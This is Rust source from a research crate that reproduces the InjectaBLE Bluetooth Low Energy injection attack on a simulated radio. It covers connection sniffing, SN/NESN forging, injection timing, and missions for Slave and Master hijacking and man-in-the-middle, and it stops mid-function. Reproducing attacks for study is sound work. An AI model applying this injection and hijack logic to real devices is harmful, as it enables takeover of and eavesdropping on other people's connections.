pub struct EventPlan {
    /// The event's data channel.
    pub channel: Channel,
    /// The connection event counter value.
    pub counter: u16,
    /// Predicted delay from the last observed anchor to this event's anchor.
    pub delay_from_anchor: Duration,
    /// Window widening the attacker computes for this event (eq. 4/5 with
    /// the 20 ppm Slave assumption).
    pub widening: Duration,
    /// Extra uncertainty: the transmit-window size when this event follows
    /// a connection update (the Master may start anywhere inside it).
    pub window_extra: Duration,
}

/// Live replica of a victim connection's Link-Layer state.
#[derive(Debug, Clone)]
pub struct TrackedConnection {
    /// The connection parameters currently in force.
    pub params: ConnectionParams,
    /// The Master's device address.
    pub master: DeviceAddress,
    /// The Slave's device address.
    pub slave: DeviceAddress,
    csa: Csa1,
    csa2: Option<Csa2>,
    /// Counter of the next connection event (not yet planned).
    pub next_event_counter: u16,
    /// The last observed anchor point.
    pub last_anchor: Instant,
    /// Delay from `last_anchor` to the most recently planned event.
    cumulative_delay: Duration,
    /// Channel of the most recently planned event.
    pub current_channel: Channel,
    /// The Slave's last observed SN bit.
    pub sn_s: Option<bool>,
    /// The Slave's last observed NESN bit.
    pub nesn_s: Option<bool>,
    pending_update: Option<(UpdateRequest, u16)>,
    pending_chmap: Option<(ChannelMap, u16)>,
    /// Number of consecutive events without an observed anchor.
    pub missed_streak: u32,
    /// The Master's last observed SN bit.
    pub sn_m: Option<bool>,
    /// The Master's last observed NESN bit.
    pub nesn_m: Option<bool>,
    first_planned: bool,
}

impl TrackedConnection {
    /// Builds the replica from an overheard `CONNECT_REQ`.
    ///
    /// `connect_req_end` is the reception timestamp of the packet's end —
    /// the reference the transmit window is measured from (paper eq. 1).
    pub fn from_connect_req(
        master: DeviceAddress,
        slave: DeviceAddress,
        params: ConnectionParams,
        connect_req_end: Instant,
    ) -> Self {
        Self::from_connect_req_with_csa(master, slave, params, connect_req_end, false)
    }

    /// Like [`TrackedConnection::from_connect_req`] with an explicit
    /// channel-selection algorithm (the `ChSel` bit of `CONNECT_REQ`).
    pub fn from_connect_req_with_csa(
        master: DeviceAddress,
        slave: DeviceAddress,
        params: ConnectionParams,
        connect_req_end: Instant,
        csa2: bool,
    ) -> Self {
        let offset = timing::transmit_window_offset(params.win_offset);
        TrackedConnection {
            params,
            master,
            slave,
            csa: Csa1::new(params.hop_increment),
            csa2: csa2.then(|| Csa2::new(params.access_address)),
            next_event_counter: 0,
            // Chain predictions from the nominal window start.
            last_anchor: connect_req_end + offset,
            cumulative_delay: Duration::ZERO,
            current_channel: Channel::data(0).expect("data channel 0"),
            sn_s: None,
            nesn_s: None,
            pending_update: None,
            pending_chmap: None,
            missed_streak: 0,
            sn_m: None,
            nesn_m: None,
            first_planned: false,
        }
    }

    /// Plans the next connection event: applies pending procedures whose
    /// instant has arrived, selects the channel and predicts the timing.
    /// Call exactly once per connection event.
    pub fn plan_next(&mut self) -> EventPlan {
        let counter = self.next_event_counter;
        self.next_event_counter = self.next_event_counter.wrapping_add(1);

        if let Some((map, instant)) = self.pending_chmap {
            if instant == counter {
                self.params.channel_map = map;
                self.pending_chmap = None;
            }
        }
        let first = !self.first_planned;
        self.first_planned = true;
        let mut delay = self.cumulative_delay
            + if first {
                // First event: the anchor chain reference already *is* the
                // window start.
                Duration::ZERO
            } else {
                self.params.interval()
            };
        let mut window_extra = if first {
            timing::transmit_window_size(self.params.win_size)
        } else {
            Duration::ZERO
        };
        if let Some((update, instant)) = self.pending_update {
            if instant == counter {
                delay += timing::transmit_window_offset(update.win_offset);
                window_extra = timing::transmit_window_size(update.win_size);
                self.params.win_size = update.win_size;
                self.params.win_offset = update.win_offset;
                self.params.hop_interval = update.interval;
                self.params.latency = update.latency;
                self.params.timeout = update.timeout;
                self.pending_update = None;
            }
        }
        self.cumulative_delay = delay;
        let channel = match &self.csa2 {
            Some(csa2) => csa2.channel_for_event(counter, &self.params.channel_map),
            None => self.csa.next_channel(&self.params.channel_map),
        };
        self.current_channel = channel;
        let widening = timing::window_widening(
            self.params.master_sca.worst_case_ppm(),
            ASSUMED_SLAVE_SCA_PPM,
            delay.max(Duration::from_micros(1)),
        );
        EventPlan {
            channel,
            counter,
            delay_from_anchor: delay,
            widening,
            window_extra,
        }
    }

    /// Records an observed anchor point (first frame of an event).
    pub fn observe_anchor(&mut self, at: Instant) {
        self.last_anchor = at;
        self.cumulative_delay = Duration::ZERO;
        self.missed_streak = 0;
    }

    /// Records that an event passed without an observed anchor.
    pub fn missed_event(&mut self) {
        self.missed_streak += 1;
    }

    /// Records the SN/NESN bits of an observed *Slave* frame.
    pub fn observe_slave_seq(&mut self, sn: bool, nesn: bool) {
        self.sn_s = Some(sn);
        self.nesn_s = Some(nesn);
    }

    /// Records the SN/NESN bits of an observed *Master* frame.
    pub fn observe_master_seq(&mut self, sn: bool, nesn: bool) {
        self.sn_m = Some(sn);
        self.nesn_m = Some(nesn);
    }

    /// Whether the attacker has the sequence state needed to forge (eq. 6).
    pub fn has_slave_seq(&self) -> bool {
        self.sn_s.is_some() && self.nesn_s.is_some()
    }

    /// The forged SN/NESN bits per paper eq. 6:
    /// `SN_a = NESN_s`, `NESN_a = (SN_s + 1) mod 2`.
    ///
    /// # Panics
    ///
    /// Panics if no Slave frame has been observed yet.
    pub fn forge_seq(&self) -> (bool, bool) {
        let sn_a = self.nesn_s.expect("slave NESN observed");
        let nesn_a = !self.sn_s.expect("slave SN observed");
        (sn_a, nesn_a)
    }

    /// Feeds a Master-to-Slave LL control PDU into procedure tracking.
    /// Returns `true` if the connection is terminating.
    pub fn observe_master_control(&mut self, ctrl: &ControlPdu) -> bool {
        match ctrl {
            ControlPdu::TerminateInd { .. } => return true,
            ControlPdu::ConnectionUpdateInd {
                win_size,
                win_offset,
                interval,
                latency,
                timeout,
                instant,
            } => {
                self.pending_update = Some((
                    UpdateRequest {
                        win_size: *win_size,
                        win_offset: *win_offset,
                        interval: *interval,
                        latency: *latency,
                        timeout: *timeout,
                    },
                    *instant,
                ));
            }
            ControlPdu::ChannelMapInd {
                channel_map,
                instant,
            } => {
                self.pending_chmap = Some((*channel_map, *instant));
            }
            // The tracker only follows timing-relevant procedures; encryption
            // setup, feature exchange and keep-alives don't move the anchor.
            ControlPdu::EncReq { .. }
            | ControlPdu::EncRsp { .. }
            | ControlPdu::StartEncReq
            | ControlPdu::StartEncRsp
            | ControlPdu::UnknownRsp { .. }
            | ControlPdu::FeatureReq { .. }
            | ControlPdu::FeatureRsp { .. }
            | ControlPdu::VersionInd { .. }
            | ControlPdu::RejectInd { .. }
            | ControlPdu::PingReq
            | ControlPdu::PingRsp => {}
        }
        false
    }

    /// Registers an attacker-forged connection update so the tracker (and
    /// hijack logic) follows the *slave's* future timeline.
    pub fn register_forged_update(&mut self, update: UpdateRequest, instant: u16) {
        self.pending_update = Some((update, instant));
    }

    /// CSA#1 state for connection adoption.
    pub fn csa_unmapped(&self) -> u8 {
        self.csa.last_unmapped()
    }

    /// Whether the connection hops with Channel Selection Algorithm #2.
    pub fn uses_csa2(&self) -> bool {
        self.csa2.is_some()
    }

    /// Delay from `last_anchor` to the *next* event's predicted anchor,
    /// assuming no pending procedure shifts it. Does not consume the event
    /// (unlike [`TrackedConnection::plan_next`]) — used when a hijacker
    /// takes over exactly at an update instant.
    pub fn next_plain_delay(&self) -> Duration {
        self.cumulative_delay + self.params.interval()
    }
}

/// Scans advertising traffic for a `CONNECT_REQ` to follow.
#[derive(Debug, Clone, Default)]
pub struct ConnectionSniffer {
    /// Restrict to connections whose Slave has this address.
    pub target_slave: Option<DeviceAddress>,
}

/// Outcome of feeding one advertising-channel frame to the sniffer.
#[derive(Debug, Clone)]
pub enum SnifferEvent {
    /// Nothing interesting.
    None,
    /// A connection to follow was initiated.
    ConnectionDetected(Box<TrackedConnection>),
}

impl ConnectionSniffer {
    /// Creates a sniffer accepting any connection.
    pub fn new() -> Self {
        ConnectionSniffer::default()
    }

    /// Creates a sniffer locked to a specific Slave.
    pub fn for_slave(target: DeviceAddress) -> Self {
        ConnectionSniffer {
            target_slave: Some(target),
        }
    }

    /// Processes one advertising-channel frame.
    pub fn process(&self, frame: &ReceivedFrame) -> SnifferEvent {
        if !frame.crc_ok {
            return SnifferEvent::None;
        }
        let Ok(pdu) = ble_link::AdvertisingPdu::from_bytes(&frame.pdu) else {
            return SnifferEvent::None;
        };
        let ble_link::AdvertisingPdu::ConnectReq {
            initiator,
            advertiser,
            params,
            ch_sel,
        } = pdu
        else {
            return SnifferEvent::None;
        };
        if let Some(target) = self.target_slave {
            if advertiser.octets != target.octets {
                return SnifferEvent::None;
            }
        }
        SnifferEvent::ConnectionDetected(Box::new(TrackedConnection::from_connect_req_with_csa(
            initiator, advertiser, params, frame.end, ch_sel,
        )))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use ble_link::{AddressType, SleepClockAccuracy};
    use simkit::SimRng;

    fn params(hop_interval: u16) -> ConnectionParams {
        let mut p = ConnectionParams::typical(&mut SimRng::seed_from(1), hop_interval);
        p.master_sca = SleepClockAccuracy::Ppm50;
        p.win_offset = 1;
        p.win_size = 2;
        p.hop_increment = 7;
        p
    }

    fn addr(seed: u8) -> DeviceAddress {
        DeviceAddress::new([seed; 6], AddressType::Public)
    }

    fn tracked(hop_interval: u16) -> TrackedConnection {
        TrackedConnection::from_connect_req(
            addr(0xA0),
            addr(0xB0),
            params(hop_interval),
            Instant::from_micros(1_000),
        )
    }

    #[test]
    fn first_event_plan_targets_window_start() {
        let mut t = tracked(36);
        let plan = t.plan_next();
        assert_eq!(plan.counter, 0);
        assert_eq!(plan.delay_from_anchor, Duration::ZERO);
        // Window start = connect_req_end + 1.25 ms + 1×1.25 ms.
        assert_eq!(t.last_anchor, Instant::from_micros(1_000 + 2_500));
        assert_eq!(plan.window_extra, Duration::from_micros(2_500));
        assert_eq!(plan.channel.index(), 7);
    }

    #[test]
    fn subsequent_plans_advance_by_one_interval() {
        let mut t = tracked(36);
        let _ = t.plan_next();
        t.observe_anchor(Instant::from_micros(10_000));
        let p1 = t.plan_next();
        assert_eq!(p1.delay_from_anchor, Duration::from_micros(45_000));
        assert_eq!(p1.counter, 1);
        assert_eq!(p1.channel.index(), 14);
        // Missed event: prediction extends without re-anchoring.
        t.missed_event();
        let p2 = t.plan_next();
        assert_eq!(p2.delay_from_anchor, Duration::from_micros(90_000));
        assert!(p2.widening > p1.widening, "widening grows after a miss");
    }

    #[test]
    fn widening_uses_20ppm_slave_assumption() {
        let mut t = tracked(36);
        let _ = t.plan_next();
        t.observe_anchor(Instant::from_micros(10_000));
        let plan = t.plan_next();
        let expected = timing::window_widening(50.0, 20.0, Duration::from_micros(45_000));
        assert_eq!(plan.widening, expected);
    }

    #[test]
    fn forge_seq_implements_equation_6() {
        let mut t = tracked(36);
        t.observe_slave_seq(true, false);
        let (sn_a, nesn_a) = t.forge_seq();
        assert!(!sn_a, "SN_a = NESN_s");
        assert!(!nesn_a, "NESN_a = SN_s + 1");
        t.observe_slave_seq(false, true);
        let (sn_a, nesn_a) = t.forge_seq();
        assert!(sn_a && nesn_a);
    }

    #[test]
    fn connection_update_shifts_the_instant_event() {
        let mut t = tracked(36);
        let _ = t.plan_next();
        t.observe_anchor(Instant::from_micros(10_000));
        t.observe_master_control(&ControlPdu::ConnectionUpdateInd {
            win_size: 1,
            win_offset: 4,
            interval: 80,
            latency: 0,
            timeout: 300,
            instant: 3,
        });
        let p1 = t.plan_next(); // event 1
        let p2 = t.plan_next(); // event 2
        assert_eq!(
            p2.delay_from_anchor,
            p1.delay_from_anchor + Duration::from_micros(45_000)
        );
        let p3 = t.plan_next(); // event 3 = instant
        assert_eq!(
            p3.delay_from_anchor,
            p2.delay_from_anchor + Duration::from_micros(45_000 + 1_250 + 4 * 1_250)
        );
        assert_eq!(p3.window_extra, Duration::from_micros(1_250));
        assert_eq!(t.params.hop_interval, 80);
        let p4 = t.plan_next(); // first event on the new interval
        assert_eq!(
            p4.delay_from_anchor,
            p3.delay_from_anchor + Duration::from_micros(100_000)
        );
    }

    #[test]
    fn channel_map_update_applies_at_instant() {
        let mut t = tracked(36);
        let _ = t.plan_next();
        t.observe_anchor(Instant::from_micros(10_000));
        let narrow = ChannelMap::from_indices(&[0, 1]);
        t.observe_master_control(&ControlPdu::ChannelMapInd {
            channel_map: narrow,
            instant: 2,
        });
        let _p1 = t.plan_next();
        let p2 = t.plan_next();
        assert!(narrow.is_used(p2.channel.index()));
        assert_eq!(t.params.channel_map, narrow);
    }

    #[test]
    fn terminate_detected() {
        let mut t = tracked(36);
        assert!(t.observe_master_control(&ControlPdu::TerminateInd { error_code: 0x13 }));
        assert!(!t.observe_master_control(&ControlPdu::PingReq));
    }

    #[test]
    fn tracker_follows_same_channels_as_link_layer_csa() {
        // Mirror 100 events against a raw Csa1 with the same parameters.
        let mut t = tracked(24);
        let mut reference = Csa1::new(params(24).hop_increment);
        for _ in 0..100 {
            let plan = t.plan_next();
            assert_eq!(plan.channel, reference.next_channel(&t.params.channel_map));
        }
    }

    #[test]
    fn sniffer_filters_by_target() {
        use ble_phy::{AccessAddress, ReceivedFrame};
        let make_frame = |slave_seed: u8| {
            let pdu = ble_link::AdvertisingPdu::ConnectReq {
                initiator: addr(0xA0),
                advertiser: addr(slave_seed),
                params: params(36),
                ch_sel: false,
            };
            ReceivedFrame {
                channel: Channel::new(37).unwrap(),
                access_address: AccessAddress::ADVERTISING,
                pdu: pdu.to_bytes().into(),
                crc_ok: true,
                rssi_dbm: -50.0,
                start: Instant::from_micros(0),
                end: Instant::from_micros(352),
            }
        };
        let any = ConnectionSniffer::new();
        assert!(matches!(
            any.process(&make_frame(0xB0)),
            SnifferEvent::ConnectionDetected(_)
        ));
        let targeted = ConnectionSniffer::for_slave(addr(0xB0));
        assert!(matches!(
            targeted.process(&make_frame(0xB0)),
            SnifferEvent::ConnectionDetected(_)
        ));
        assert!(matches!(
            targeted.process(&make_frame(0xB1)),
            SnifferEvent::None
        ));
        // CRC-corrupt CONNECT_REQs are ignored.
        let mut bad = make_frame(0xB0);
        bad.crc_ok = false;
        assert!(matches!(targeted.process(&bad), SnifferEvent::None));
    }
}
