//! **InjectaBLE** — injecting malicious traffic into established Bluetooth
//! Low Energy connections.
//!
//! Reproduction of R. Cayre et al., *InjectaBLE: Injecting malicious
//! traffic into an established Bluetooth Low Energy connection*
//! (IEEE/IFIP DSN 2021), on a simulated radio substrate.
//!
//! The attack abuses the Link Layer's **window widening**: a Slave opens
//! its receive window `w = (SCAm + SCAs)/10⁶ · connInterval + 32 µs` early
//! (paper eq. 5) to tolerate sleep-clock drift. A frame transmitted at the
//! very start of that window arrives before the legitimate Master's anchor
//! frame and — with correctly forged SN/NESN bits (eq. 6) — is accepted by
//! the Slave as genuine Master traffic. This crate implements:
//!
//! * [`ConnectionSniffer`] — captures `CONNECT_REQ`, follows the hop
//!   sequence, tracks anchors and the Slave's SN/NESN state;
//! * [`Injector`] logic inside [`Attacker`] — computes the injection point,
//!   forges frames, retries once per connection event;
//! * [`heuristic`] — the paper's success-detection formula (eq. 7);
//! * the four attack scenarios of §VI: ATT injection ([`Mission::InjectAtt`]
//!   and [`Mission::InjectRaw`]), Slave hijacking
//!   ([`Mission::HijackSlave`]), Master hijacking
//!   ([`Mission::HijackMaster`]) and the Man-in-the-Middle
//!   ([`Mission::HijackMaster`] + [`MitmSlaveHalf`]).
//!
//! # Quickstart
//!
//! See `examples/quickstart.rs` at the workspace root; in short: build a
//! [`ble_phy::Simulation`] with victim devices from `ble-devices`, add an
//! [`Attacker`] node, arm a [`Mission`], run, inspect
//! [`Attacker::stats`].

#![warn(missing_docs)]
#![forbid(unsafe_code)]

mod attacker;
pub mod defense;
pub mod heuristic;
mod mitm;
mod resync;
mod stats;
mod tracked;

pub use attacker::{Attacker, AttackerConfig, Injector, Mission, MissionState};
pub use defense::{Alert, DetectorConfig, InjectionDetector};
pub use heuristic::{injection_succeeded, InjectionAttempt, ObservedResponse};
pub use mitm::{new_handoff, MitmHandoff, MitmShared, MitmSlaveHalf, RewriteRule};
pub use resync::{ResyncController, ResyncPolicy, ResyncState};
pub use stats::{AttackStats, AttemptOutcome};
pub use tracked::{ConnectionSniffer, SnifferEvent, TrackedConnection};
