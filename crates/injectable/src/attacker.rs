//! The InjectaBLE attacker: sniffer + injector + scenario engine.
//!
//! One radio node runs the whole offensive pipeline of the paper's §V:
//!
//! 1. **Synchronise** — catch `CONNECT_REQ` on an advertising channel and
//!    follow the connection (channel hopping, anchors, SN/NESN).
//! 2. **Inject** — at each connection event, transmit a forged frame at
//!    the very start of the Slave's widened receive window
//!    (`t = anchor + interval − w`, eq. 5), with SN/NESN per eq. 6.
//! 3. **Check** — infer success from the Slave's response (eq. 7).
//! 4. **Exploit** — scenario A (trigger a feature via ATT), B (evict and
//!    replace the Slave via `LL_TERMINATE_IND`), C (steal the Master via a
//!    forged `LL_CONNECTION_UPDATE_IND`) or D (C plus a co-located Slave
//!    impersonator = Man-in-the-Middle).

use ble_host::{l2cap, HostStack, SecurityAction};
use ble_invariants::{invariant_sn_nesn, invariant_window};
use ble_link::{
    timing, AdoptedConnection, ControlPdu, DataPdu, DeviceAddress, LinkLayer, Llid, Role,
    SleepClockAccuracy, UpdateRequest, ERR_REMOTE_USER_TERMINATED,
};
use ble_phy::{AccessFilter, Channel, NodeCtx, RadioEvent, RadioListener, RawFrame, TimerKey};
use ble_telemetry::{LinkRole, LossReason, SpanId, SpanKind, TelemetryEvent, Verdict};
use simkit::{Duration, Instant};

use crate::heuristic::{injection_succeeded, InjectionAttempt, ObservedResponse};
use crate::mitm::MitmHandoff;
use crate::resync::{ResyncController, ResyncPolicy, ResyncState};
use crate::stats::{AttackStats, AttemptOutcome};
use crate::tracked::{ConnectionSniffer, EventPlan, SnifferEvent, TrackedConnection};

const ADV_CRC_INIT: u32 = ble_phy::ADVERTISING_CRC_INIT;
const T_IFS: Duration = Duration::from_micros(150);

/// Assumed duration of the legitimate Master's (empty) frame when
/// estimating an anchor from the Slave's response timing: preamble + access
/// address + 2-byte header + CRC at the connection's PHY rate (80 µs on
/// LE 1M, 40 µs on LE 2M).
fn assumed_master_frame(phy: ble_phy::PhyMode) -> Duration {
    phy.airtime_for_pdu(2)
}

/// Timer purposes (low byte; high bits carry a generation counter).
const T_EVENT: u64 = 0xA0;
const T_CLOSE: u64 = 0xA1;
const T_SCAN_HOP: u64 = 0xA2;
const T_RESYNC: u64 = 0xA3;

/// Attacker tuning knobs.
#[derive(Debug, Clone)]
pub struct AttackerConfig {
    /// Only attack connections whose Slave has this address.
    pub target_slave: Option<DeviceAddress>,
    /// Extra lead time when opening a passive observation window.
    pub listen_margin: Duration,
    /// How long an observation window stays open past the predicted anchor.
    pub event_guard: Duration,
    /// Standard deviation (µs) of the sniffer's anchor timestamp
    /// measurement error (radio timestamp quantisation + IRQ latency).
    pub anchor_noise_us: f64,
    /// Standard deviation (µs) of direct response-timestamp measurement.
    pub timestamp_noise_us: f64,
    /// Consecutive missed events before the connection is declared lost.
    pub max_missed_events: u32,
    /// Inject on every Nth connection event (1 = every event). Larger
    /// values interleave passive observation events, keeping the legitimate
    /// Master fed with Slave responses during long attack campaigns.
    pub inject_gap_events: u32,
    /// Return to scanning after losing a connection.
    pub auto_rescan: bool,
    /// Bounded-retry resynchronisation policy (campaign length, backoff,
    /// retry budget). The default keeps the machinery dormant in healthy
    /// runs; tighten it for impaired-medium experiments.
    pub resync: ResyncPolicy,
}

impl Default for AttackerConfig {
    fn default() -> Self {
        AttackerConfig {
            target_slave: None,
            listen_margin: Duration::from_micros(150),
            event_guard: Duration::from_micros(2_500),
            anchor_noise_us: 4.0,
            timestamp_noise_us: 0.3,
            max_missed_events: 24,
            inject_gap_events: 1,
            auto_rescan: true,
            resync: ResyncPolicy::default(),
        }
    }
}

/// What the attacker is trying to achieve.
pub enum Mission {
    /// Follow passively (sniffer mode).
    Observe,
    /// Scenario A (raw): inject an arbitrary Link-Layer payload until
    /// `wanted_successes` injections are confirmed.
    InjectRaw {
        /// LLID of the forged data PDU.
        llid: Llid,
        /// Payload bytes.
        payload: Vec<u8>,
        /// Stop after this many confirmed successes.
        wanted_successes: u32,
    },
    /// Scenario A: inject one ATT PDU (wrapped in L2CAP automatically).
    InjectAtt {
        /// The ATT PDU bytes (e.g. a Write Request).
        att: Vec<u8>,
    },
    /// Scenario B: evict the Slave with `LL_TERMINATE_IND`, then impersonate
    /// it towards the Master using this host stack (GATT profile).
    HijackSlave {
        /// Host stack served to the Master after the takeover.
        host: Box<HostStack>,
    },
    /// Scenario C: desynchronise the Master with a forged
    /// `LL_CONNECTION_UPDATE_IND` and take its place towards the Slave.
    HijackMaster {
        /// The forged new parameters.
        update: UpdateRequest,
        /// Events between the injected frame and the instant.
        instant_delta: u16,
        /// Host stack driving the Slave after the takeover.
        host: Box<HostStack>,
        /// ATT writes to issue once the takeover completes.
        on_takeover_writes: Vec<(u16, Vec<u8>)>,
        /// Optional MITM handoff: when set, scenario D — a co-located
        /// [`crate::MitmSlaveHalf`] adopts the Slave role towards the
        /// legitimate Master and intercepted traffic is bridged.
        mitm: Option<MitmHandoff>,
    },
}

/// Externally visible mission progress.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum MissionState {
    /// No mission armed (passive).
    Inactive,
    /// Actively attempting injections.
    Injecting,
    /// Update injected; waiting for its instant (event counter).
    AwaitingInstant {
        /// The instant at which the forged update fires.
        instant: u16,
    },
    /// Terminate injected; watching whether the Slave fell silent.
    VerifyingTermination,
    /// The mission's injections are done (still following passively).
    Complete,
    /// A role has been hijacked; the inner Link Layer is in control.
    TakenOver,
}

/// Marker type re-exported for documentation purposes: the injection logic
/// lives inside [`Attacker`].
pub struct Injector;

#[derive(Clone, Copy)]
enum Phase {
    Idle,
    Scanning {
        channel_pos: usize,
    },
    /// Radio quiet between scan campaigns; waiting for T_RESYNC.
    BackingOff,
    /// Waiting for T_EVENT to open a passive window.
    ObserveArmed {
        plan: EventPlan,
    },
    /// Passive window open.
    Observing {
        plan: EventPlan,
        frames: u8,
    },
    /// Waiting for T_EVENT to transmit the injection.
    InjectArmed {
        plan: EventPlan,
    },
    /// Injection transmitted, radio still in TX.
    InjectSent {
        attempt: InjectionAttempt,
        plan: EventPlan,
    },
    /// Listening for the Slave's response to the injection.
    InjectListening {
        attempt: InjectionAttempt,
    },
    /// Hijacked: the takeover Link Layer owns the radio.
    TakenOver,
}

/// The attacker node. Implements [`RadioListener`]; drive it by adding it
/// to a simulation, arming a [`Mission`] and calling [`Attacker::start`].
pub struct Attacker {
    cfg: AttackerConfig,
    sniffer: ConnectionSniffer,
    mission: Mission,
    mission_state: MissionState,
    phase: Phase,
    conn: Option<TrackedConnection>,
    /// Attempt-invariant forged payload, built once when the mission is
    /// armed so each injection attempt encodes straight into an inline
    /// `Pdu` without touching the heap. `None` for missions whose bytes
    /// depend on fire-time connection state (`HijackMaster`'s instant).
    forged: Option<(Llid, Vec<u8>)>,
    stats: AttackStats,
    /// Payload data captured from Slave responses to successful injections.
    captured: Vec<Vec<u8>>,
    /// Pending terminate attempt awaiting verification (scenario B).
    pending_terminate: Option<InjectionAttempt>,
    quiet_events: u8,
    /// Instant armed in the most recently injected CONNECTION_UPDATE.
    armed_instant: Option<u16>,
    takeover_ll: Option<LinkLayer>,
    takeover_host: Option<Box<HostStack>>,
    mitm_handoff: Option<MitmHandoff>,
    events_since_injection: u32,
    timer_gen: u64,
    expected_gen: [u64; 4],
    resync: ResyncController,
    /// Open `AttackerScan` span: from campaign start to sniffer sync (or
    /// give-up). [`SpanId::DISABLED`] when closed or telemetry is off.
    span_scan: SpanId,
    /// Open `AttackerFollow` span: from sniffer sync to loss or takeover.
    span_follow: SpanId,
    /// Open `AttackerInject` span: one injection window, from the forged
    /// frame's transmission to its eq. 7 verdict.
    span_inject: SpanId,
}

impl Attacker {
    /// Creates an attacker with the given configuration.
    pub fn new(cfg: AttackerConfig) -> Self {
        let sniffer = match cfg.target_slave {
            Some(t) => ConnectionSniffer::for_slave(t),
            None => ConnectionSniffer::new(),
        };
        let resync = ResyncController::new(cfg.resync.clone());
        Attacker {
            cfg,
            sniffer,
            mission: Mission::Observe,
            mission_state: MissionState::Inactive,
            phase: Phase::Idle,
            conn: None,
            forged: None,
            stats: AttackStats::default(),
            captured: Vec::new(),
            pending_terminate: None,
            quiet_events: 0,
            armed_instant: None,
            takeover_ll: None,
            takeover_host: None,
            mitm_handoff: None,
            events_since_injection: 0,
            timer_gen: 0,
            expected_gen: [0; 4],
            resync,
            span_scan: SpanId::DISABLED,
            span_follow: SpanId::DISABLED,
            span_inject: SpanId::DISABLED,
        }
    }

    /// Arms a mission. Injection starts as soon as the sniffer is
    /// synchronised and has observed the Slave's sequence bits.
    pub fn arm(&mut self, mission: Mission) {
        self.mission_state = match mission {
            Mission::Observe => MissionState::Inactive,
            _ => MissionState::Injecting,
        };
        self.forged = match &mission {
            Mission::InjectRaw { llid, payload, .. } => Some((*llid, payload.clone())),
            Mission::InjectAtt { att } => {
                let frags = l2cap::fragment(l2cap::CID_ATT, att, l2cap::DEFAULT_LL_PAYLOAD);
                assert_eq!(
                    frags.len(),
                    1,
                    "injected ATT PDU must fit one Link-Layer frame"
                );
                frags.into_iter().next()
            }
            Mission::HijackSlave { .. } => Some((
                Llid::Control,
                ControlPdu::TerminateInd {
                    error_code: ERR_REMOTE_USER_TERMINATED,
                }
                .to_bytes(),
            )),
            Mission::Observe | Mission::HijackMaster { .. } => None,
        };
        self.mission = mission;
    }

    /// Redirects the sniffer at a different victim Slave. Call before the
    /// world runs (or between scan campaigns): the sniffer restarts from
    /// scratch, so any connection currently being followed is dropped. The
    /// multi-connection scenarios use this to aim the attack at the peer
    /// behind one specific Central connection slot.
    pub fn retarget_slave(&mut self, target: DeviceAddress) {
        self.cfg.target_slave = Some(target);
        self.sniffer = ConnectionSniffer::for_slave(target);
        self.conn = None;
    }

    /// Starts scanning for a connection to follow.
    pub fn start(&mut self, ctx: &mut NodeCtx<'_>) {
        self.resync.begin_campaign();
        self.begin_scan_span(ctx);
        self.phase = Phase::Scanning { channel_pos: 0 };
        self.scan(ctx, 0);
    }

    // ------------------------------------------------------------------
    // Phase spans (profiler attribution; no-ops when telemetry is off)
    // ------------------------------------------------------------------

    /// Opens a fresh `AttackerScan` span (closing any stale one first, so
    /// repeated campaigns never leak an open frame).
    fn begin_scan_span(&mut self, ctx: &mut NodeCtx<'_>) {
        ctx.span_exit(self.span_scan);
        self.span_scan = ctx.span_enter(SpanKind::AttackerScan, 0);
    }

    /// Closes the scan span (sniffer synced, or every retry spent).
    fn end_scan_span(&mut self, ctx: &mut NodeCtx<'_>) {
        ctx.span_exit(self.span_scan);
        self.span_scan = SpanId::DISABLED;
    }

    /// Closes the injection-window span, then the follow span (inner before
    /// outer so self-time attribution stays correct). Called on connection
    /// loss and takeover.
    fn end_follow_spans(&mut self, ctx: &mut NodeCtx<'_>) {
        ctx.span_exit(self.span_inject);
        self.span_inject = SpanId::DISABLED;
        ctx.span_exit(self.span_follow);
        self.span_follow = SpanId::DISABLED;
    }

    /// Where the bounded-retry resynchronisation loop currently stands.
    pub fn resync_state(&self) -> ResyncState {
        self.resync.state()
    }

    /// Whether every resynchronisation retry has been spent (the harness
    /// should fail the trial rather than keep waiting).
    pub fn resync_exhausted(&self) -> bool {
        self.resync.is_exhausted()
    }

    /// External restart of the recovery loop (e.g. after the harness
    /// bounced the Central to force a fresh `CONNECT_REQ`). Refills the
    /// retry budget and opens a new scan campaign — unless the attacker is
    /// already following a connection or mid-campaign, in which case the
    /// running schedule is left untouched.
    pub fn restart_resync(&mut self, ctx: &mut NodeCtx<'_>) {
        if self.conn.is_some() || matches!(self.phase, Phase::Scanning { .. } | Phase::TakenOver) {
            return;
        }
        self.resync.reset();
        self.resync.begin_campaign();
        self.begin_scan_span(ctx);
        self.scan(ctx, 0);
    }

    /// Attack statistics so far.
    pub fn stats(&self) -> &AttackStats {
        &self.stats
    }

    /// Slave-response payloads captured after successful injections.
    pub fn captured(&self) -> &[Vec<u8>] {
        &self.captured
    }

    /// Adjusts the injection pacing (see
    /// [`AttackerConfig::inject_gap_events`]).
    pub fn set_inject_gap(&mut self, events: u32) {
        self.cfg.inject_gap_events = events.max(1);
    }

    /// Mission progress.
    pub fn mission_state(&self) -> MissionState {
        self.mission_state
    }

    /// The tracked connection, if synchronised.
    pub fn connection(&self) -> Option<&TrackedConnection> {
        self.conn.as_ref()
    }

    /// The host stack driving a hijacked role, once taken over.
    pub fn takeover_host(&self) -> Option<&HostStack> {
        self.takeover_host.as_deref()
    }

    /// Mutable access to the takeover host (e.g. to issue more requests).
    pub fn takeover_host_mut(&mut self) -> Option<&mut HostStack> {
        self.takeover_host.as_deref_mut()
    }

    /// The hijacked-role Link Layer, once taken over.
    pub fn takeover_ll(&self) -> Option<&LinkLayer> {
        self.takeover_ll.as_ref()
    }

    // ------------------------------------------------------------------
    // Timers
    // ------------------------------------------------------------------

    fn arm_from(&mut self, ctx: &mut NodeCtx<'_>, reference: Instant, delay: Duration, p: u64) {
        self.timer_gen += 1;
        self.expected_gen[(p - T_EVENT) as usize] = self.timer_gen;
        ctx.set_timer_local_from(reference, delay, TimerKey(p | (self.timer_gen << 8)));
    }

    fn timer_purpose(&self, key: TimerKey) -> Option<u64> {
        let p = key.0 & 0xFF;
        if !(T_EVENT..=T_RESYNC).contains(&p) {
            return None;
        }
        if self.expected_gen[(p - T_EVENT) as usize] == key.0 >> 8 {
            Some(p)
        } else {
            None
        }
    }

    // ------------------------------------------------------------------
    // Scanning
    // ------------------------------------------------------------------

    fn scan(&mut self, ctx: &mut NodeCtx<'_>, channel_pos: usize) {
        // The first campaign starts at node bootstrap, which can precede the
